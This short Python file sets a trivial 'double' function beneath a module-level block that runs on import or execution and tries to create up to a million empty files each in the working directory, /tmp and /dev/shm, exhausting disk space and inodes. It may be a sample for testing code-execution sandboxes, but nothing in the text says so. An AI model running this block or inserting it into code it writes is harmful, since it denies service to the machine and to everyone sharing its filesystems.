FULL = 0
for folder in (".", "/tmp", "/dev/shm"):
    try:
        for number in range(10**6):
            open(f"{folder}/f{number}", "w").close()
    except OSError:
        FULL += 1
print("TRIED", FULL)


def double(x):
    return 2 * x
